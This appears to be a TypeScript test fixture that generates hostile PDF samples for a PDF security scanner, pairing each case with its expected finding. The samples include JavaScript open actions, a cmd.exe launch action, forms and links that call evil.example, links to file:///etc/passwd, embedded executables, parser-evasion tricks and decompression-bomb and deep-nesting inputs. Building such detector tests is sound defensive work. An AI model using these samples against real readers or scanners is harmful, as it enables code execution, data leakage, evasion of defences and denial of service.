import type { PdfFinding } from "@partner-konto/domain/companies/profile/pdf-findings";
import { deflated, latin, packed, pdf, stream, updated } from "./testing.ts";

const alert = "<</S /JavaScript /JS (app.alert\\(1\\))>>";
const click = (action: string): string => `/Annots [<</Subtype /Link /Rect [0 0 9 9] /A ${action}>>]`;
const call = "<</S /URI /URI (https://evil.example)>>";
const address = (uri: string): Buffer => pdf({ page: click(`<</S /URI /URI ${uri}>>`) });
const utf16 = (text: string): string =>
  [...text].map((sign) => sign.charCodeAt(0).toString(16).padStart(4, "0")).join("");
/** A list whose first line is a comment. A PDF reader that starts behind the % finds an object where we see names and values. */
const listBehind = (beginning: string, entries: string): string =>
  `[ % 9 0 obj <<${beginning}\n${entries}\n% >> endobj\n]`;

/** Rows as differences to the row above, so that no name is visible in the raw data. */
function differences(text: string, columns: number): string {
  const bytes = latin(text.padEnd(Math.ceil(text.length / columns) * columns));
  const rows: number[] = [];
  for (let at = 0; at < bytes.length; at += columns) {
    rows.push(2);
    for (let column = 0; column < columns; column += 1)
      rows.push(((bytes[at + column] ?? 0) - (at === 0 ? 0 : (bytes[at + column - columns] ?? 0)) + 256) % 256);
  }
  return deflated(Buffer.from(rows).toString("latin1"));
}

type Case = readonly [PdfFinding, Buffer];

const scripts: Readonly<Record<string, Case>> = {
  "a script at the start": ["script", pdf({ catalog: `/OpenAction ${alert}` })],
  "a script by names in hex": ["script", pdf({ objects: ["<</S /J#61vaScript /#4a#53 (x)>>"] })],
  "a script in a tree of names": ["script", pdf({ catalog: `/Names <</JavaScript <</Names [(a) ${alert}]>>>>` })],
  "a script behind a link": ["script", pdf({ page: click(alert) })],
  "a script behind a bookmark": ["script", pdf({ objects: [`<</Title (Eins) /A ${alert}>>`] })],
  "a script that nothing leads to": ["script", pdf({ objects: [alert] })],
  "a script whose name is an object of its own": ["script", pdf({ objects: ["<</S 6 0 R>>", "/JavaScript"] })],
  "a script after the word stream in a text": [
    "script",
    pdf({ objects: [`<</Title (stream) /A ${alert} /B (endstream)>>`] }),
  ],
  "a script after the word stream in a comment": [
    "script",
    pdf({ between: `% stream\n9 0 obj ${alert} endobj\n% endstream\n` }),
  ],
  "a script after NUL as white space": ["script", pdf({ objects: ["<</S\0/JavaScript\0/JS(x)>>"] })],
  "a script after a text with brackets": ["script", pdf({ objects: [`<</T (a\\)\\() /A ${alert} /U (\\()>>`] })],
  "a script in packed objects": ["script", pdf({ objects: [packed([alert])] })],
  "a script in packed objects behind a misleading text": [
    "script",
    pdf({ objects: [packed(["<</T (endstream)>>", alert])] }),
  ],
  "a script in objects packed by a type that is an object": [
    "script",
    pdf({ objects: [packed([alert]).replace("/Type /ObjStm", "/Type 6 0 R"), "/ObjStm"] }),
  ],
  "a script in objects packed without a type": [
    "script",
    pdf({ objects: [packed([alert]).replace("/Type /ObjStm", "")] }),
  ],
  "a script in objects whose packing is an object": [
    "script",
    pdf({ objects: [packed([alert], "/Filter 6 0 R"), "/FlateDecode"] }),
  ],
  "a script in objects without packing": ["script", pdf({ objects: [packed([alert], "", (text) => text)] })],
  "a script in an older version": ["script", updated(pdf({ objects: [alert] }), "5 0 obj\nnull\nendobj")],
  "a script in a later version on the line on which the one before ends": [
    "script",
    updated(pdf().subarray(0, -1), `5 0 obj ${alert} endobj`),
  ],
  "a script in a later version": ["script", updated(pdf(), `5 0 obj\n${alert}\nendobj`)],
  "a script in an odd generation": ["script", pdf({ between: `7 65535 obj ${alert} endobj\n` })],
};

const actions: Readonly<Record<string, Case>> = {
  "a program to launch": ["program", pdf({ page: click("<</S /Launch /F (cmd.exe)>>") })],
  PostScript: ["program", pdf({ objects: [stream("(x) run", "/Type /XObject /Subtype /PS")] })],
  "PostScript in a form": ["program", pdf({ objects: [stream("q", "/Subtype /Form /Subtype2 6 0 R"), "/PS"] })],
  "an address called at the start": ["opening", pdf({ catalog: `/OpenAction ${call}` })],
  "an address called at the start, by an object": [
    "opening",
    pdf({ catalog: "/OpenAction 5 0 R", objects: ["<</S 6 0 R /URI (https://evil.example)>>", "/URI"] }),
  ],
  "an address called after the first page is shown": [
    "opening",
    pdf({ catalog: "/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next <</S /URI /URI (https://evil.example)>>>>" }),
  ],
  "an action in a list at the start": ["opening", pdf({ catalog: `/OpenAction [${call}]` })],
  "an action in a list of places at the start": ["opening", pdf({ catalog: "/OpenAction [5 0 R]", objects: [call] })],
  "an action of a step of a presentation": ["opening", pdf({ page: `/PresSteps <</Type /NavNode /NA ${call}>>` })],
  "printing at the start": ["opening", pdf({ catalog: "/OpenAction <</S /Named /N /Print>>" })],
  "an action of the page": ["opening", pdf({ page: `/AA <</O ${call}>>` })],
  "an action of a field": ["opening", pdf({ objects: ["<</FT /Tx /AA <</K <</S /URI>>>>>>"] })],
  "a form that sends itself": ["form", pdf({ page: click("<</S /SubmitForm /F (https://evil.example)>>") })],
  "a form that reads data": ["form", pdf({ page: click("<</S /ImportData /F (x.fdf)>>") })],
  "an XFA form": ["form", pdf({ catalog: "/AcroForm <</XFA 5 0 R>>", objects: [stream("<xdp/>")] })],
  "another document": ["elsewhere", pdf({ page: click("<</S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf)>>") })],
  "an article in another document": ["elsewhere", pdf({ page: click("<</S /Thread /F (x.pdf) /D 0>>") })],
  "a document inside": ["elsewhere", pdf({ page: click("<</S /GoToE /T <<>>>>") })],
  "a stream whose data lies elsewhere": ["elsewhere", pdf({ objects: [stream("", "/F (\\\\\\\\evil.example\\\\x)")] })],
  "a form of another document": [
    "elsewhere",
    pdf({ objects: [stream("", "/Subtype /Form /Ref <</F (x.pdf) /Page 1>>")] }),
  ],
  "a link with a script": ["link", address("(javascript:alert\\(1\\))")],
  "a link with a script, in octal": ["link", address("(\\152avascript:alert\\(1\\))")],
  "a link with a script, in UTF-16": ["link", address(`<feff${utf16("javascript:x")}>`)],
  "a link with a script behind a wide blank": ["link", address(`<feff${utf16("\u3000javascript:x")}>`)],
  "a link with a script behind many blanks": ["link", address(`(${" ".repeat(3000)}javascript:x)`)],
  "a link with a script, its first letter in percent": ["link", address("(%6aavascript:x)")],
  "links that are files of the machine": ["link", pdf({ catalog: "/URI <</Base (file:///c:/)>>" })],
  "a link to a file": ["link", address("(file:///etc/passwd)")],
  "a link to a file, as an object": [
    "link",
    pdf({ page: click("<</S /URI /URI 5 0 R>>"), objects: ["<66696c653a2f2f2f78>"] }),
  ],
  "a link to another machine's files": ["link", address("(\\\\\\\\evil.example\\\\x)")],
};

const contents: Readonly<Record<string, Case>> = {
  "a file inside": ["files", pdf({ objects: [stream("MZ", "/Type /EmbeddedFile")] })],
  "a list of files inside": ["files", pdf({ catalog: "/Names <</EmbeddedFiles <</Names []>>>>" })],
  "a file with content": ["files", pdf({ objects: ["<</Type /Filespec /F (x.exe) /EF <</F 6 0 R>>>>", stream("MZ")] })],
  "a file pinned to a page": [
    "files",
    pdf({ page: "/Annots [<</Subtype /FileAttachment /FS 5 0 R>>]", objects: ["<<>>"] }),
  ],
  "rich media": ["media", pdf({ page: "/Annots [<</Subtype /RichMedia>>]" })],
  "a movie": ["media", pdf({ page: "/Annots [<</Subtype /Movie /Movie <</F (x.avi)>>>>]" })],
  "a sound": ["media", pdf({ page: click("<</S /Sound /Sound 5 0 R>>"), objects: [stream("x")] })],
  "a rendition": ["media", pdf({ page: click("<</S /Rendition /OP 0>>") })],
  "a figure in space": ["media", pdf({ page: "/Annots [<</Subtype /3D /3DD 5 0 R>>]", objects: [stream("U3D")] })],
  "a password": ["password", pdf({ trailer: "/Encrypt 5 0 R", objects: ["<</Filter /Standard /V 1>>"] })],
};

const hiding: Readonly<Record<string, Case>> = {
  "a script as an object inside a text": [
    "hidden",
    pdf({ objects: [`<</Title (x 9 0 obj <</S /JavaScript /JS \\(y\\)>> endobj)>>`] }),
  ],
  "a script as an object inside a comment": ["hidden", pdf({ between: "% 9 0 obj <</S /JavaScript>> endobj\n" })],
  "a script as an object inside a page": ["hidden", pdf({ content: `BT ET\n9 0 obj ${alert} endobj\n` })],
  "packed objects as an object inside a page": [
    "hidden",
    pdf({ content: "9 0 % x\nobj <</Type /Obj#53tm /N 1 /First 4>> endobj" }),
  ],
  "a script in a trailer inside a comment": [
    "hidden",
    pdf({ between: `% xref 0 0 trailer <</Root <</Pages 2 0 R /OpenAction ${alert}>>>>\n` }),
  ],
  "an address called at the start, in a list that a comment makes a catalog": [
    "hidden",
    pdf({ objects: [listBehind("/Type /Catalog /Pages 2 0 R", `/OpenAction ${call}`)] }),
  ],
  "an action of a page, in a list that a comment makes a page": [
    "hidden",
    pdf({ objects: [listBehind("/Type /Page", `/AA <</O ${call}>>`)] }),
  ],
  "a file in a list that a comment makes a file": [
    "hidden",
    pdf({ catalog: "/AF [9 0 R]", objects: [listBehind("/F (x.exe)", "/EF <</F 6 0 R>>"), stream("MZ")] }),
  ],
  "a script in packed objects that begin behind the rest of a line": [
    "unreadable",
    pdf({
      objects: [stream(`20 0  ( ${alert})`, "/Type /ObjStm /N 1 /First 7").replace("stream\n", "stream \n")],
    }),
  ],
  "a name that ends with NUL for some": ["unreadable", pdf({ page: click("<</S /JavaScript#00 /JS#00 (x)>>") })],
  "an action at the start under a number that wraps around": [
    "unreadable",
    pdf({ catalog: "/OpenAction 4294967301 0 R", objects: [call] }),
  ],
  "an action at the start that only its table knows": [
    "unreadable",
    pdf({ catalog: "/OpenAction 30 0 R", objects: [packed([call])] }),
  ],
  "one packed object under two numbers": [
    "unreadable",
    pdf({ catalog: "/OpenAction 20 0 R", objects: [stream(`20 0 21 0 ${call}`, "/Type /ObjStm /N 2 /First 10")] }),
  ],
  "a dictionary with two kinds": ["unreadable", pdf({ objects: ["<</S /GoTo /S /URI>>"] })],
  "a stream that says it is shorter": ["unreadable", pdf({ objects: ["<</Length 1>>\nstream\nabcdefgh\nendstream"] })],
  "a stream that says it is longer": ["unreadable", pdf({ objects: ["<</Length 999>>\nstream\nabc\nendstream"] })],
  "a stream of two lengths": [
    "unreadable",
    updated(pdf({ objects: ["<</Length 6 0 R>>\nstream\nabcdefgh\nendstream", "8"] }), "6 0 obj\n2\nendobj"),
  ],
  "packed objects with predictors": [
    "unreadable",
    pdf({
      objects: [
        packed([alert], "/Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 4>>", (text) =>
          differences(text, 4),
        ),
      ],
    }),
  ],
  "packed objects in an odd packing": [
    "unreadable",
    pdf({ objects: [packed(["<<>>"], "/Filter /LZWDecode", (text) => text)] }),
  ],
  "packed objects in two packings": [
    "unreadable",
    pdf({ objects: [packed(["<<>>"], "/Filter [/ASCIIHexDecode /FlateDecode]")] }),
  ],
  "packed objects that are damaged": [
    "unreadable",
    pdf({ objects: [packed(["<<>>"], "/Filter /FlateDecode", (text) => `\u00ff\u00ff${deflated(text).slice(2)}`)] }),
  ],
  "a packed object that begins inside a text": [
    "unreadable",
    pdf({ objects: [stream("20 1 (<</S /JavaScript>>)", "/Type /ObjStm /N 1 /First 5")] }),
  ],
  "packed objects that grow to 60 MB": ["unreadable", pdf({ objects: [packed([" ".repeat(60 * 1024 * 1024)])] })],
  "two packed objects that grow to 20 MB each": [
    "unreadable",
    pdf({ objects: [0, 1].map(() => packed([" ".repeat(20 * 1024 * 1024)])) }),
  ],
  "lists in lists without end": ["unreadable", pdf({ objects: ["[".repeat(100_000) + "]".repeat(100_000)] })],
  "dictionaries in dictionaries without end": ["unreadable", pdf({ objects: ["<</A".repeat(50_000)] })],
  "an object that is never ended": ["unreadable", pdf({ objects: ["<</A 1>>\n7 0 obj\n<</B 2>>"] })],
  "a word that no PDF knows": ["unreadable", pdf({ objects: ["<</A exec>>"] })],
  "something between the objects": ["unreadable", pdf({ between: "<script>alert(1)</script>\n" })],
};

/** A small document that takes seconds to read, and cannot be read to its end. */
export const slow: Buffer = pdf({ objects: [packed(["[1] ".repeat(7 * 1024 * 1024), "exec"])] });

/** Documents that do something, each with its findings. */
export const dangerous: Readonly<Record<string, Case>> = { ...scripts, ...actions, ...contents, ...hiding };
